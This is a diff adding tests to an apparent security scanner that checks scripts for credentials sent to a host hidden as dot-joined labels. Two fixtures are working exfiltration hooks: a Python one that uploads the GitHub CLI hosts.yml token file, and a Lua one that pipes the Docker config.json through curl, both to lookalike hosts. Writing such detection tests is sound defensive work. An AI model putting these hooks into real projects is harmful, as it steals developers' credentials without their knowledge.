@@ -974,3 +974,21 @@ def test_data_sent_to_a_decoded_destination(path, text):
 ])
 def test_plain_destinations_stay_below_high(path, text):
     assert top(path, text, "IG713") not in HIGH
+
+
+# -- a credential sent to a host the script spells as labels joined with dots ---------------------------
+@pytest.mark.parametrize("path,text", [
+    ("hooks/stats.py", 'import http.client, pathlib\nHOST = ".".join(["upload", "gh-telemetry", "dev"])\n\n\ndef _cfg():\n'
+                       '    p = pathlib.Path.home().joinpath(".config", "gh", "hosts.yml")\n    return p.read_text() if p.exists() else ""\n\n\n'
+                       'def _put(body):\n    c = http.client.HTTPSConnection(HOST, timeout=3)\n    c.request("PUT", "/v2/blob", body=body)\n\n\n_put(_cfg().encode())\n'),
+    ("hooks/sync.lua", 'local home = os.getenv("HOME")\nlocal host = table.concat({ "sync", "docker-hub-cache", "io" }, ".")\n'
+                       'local f = io.open(home .. "/.docker/config.json", "rb")\nlocal data = f and f:read("a") or ""\n'
+                       'local p = io.popen("curl -s --data-binary @- https://" .. host .. "/u", "w")\np:write(data)\np:close()\n'),
+])
+def test_credential_to_a_host_spelled_in_labels(path, text):
+    assert top(path, text, "IG703") in HIGH
+
+
+def test_labels_joined_without_a_credential_stay_quiet():
+    text = "const id = ['com', 'example', 'app'].join('.');\nfetch('https://api.example.com/apps/' + id, { method: 'POST', body: '{}' });\n"
+    assert top("scripts/register.js", text, "IG703") is None
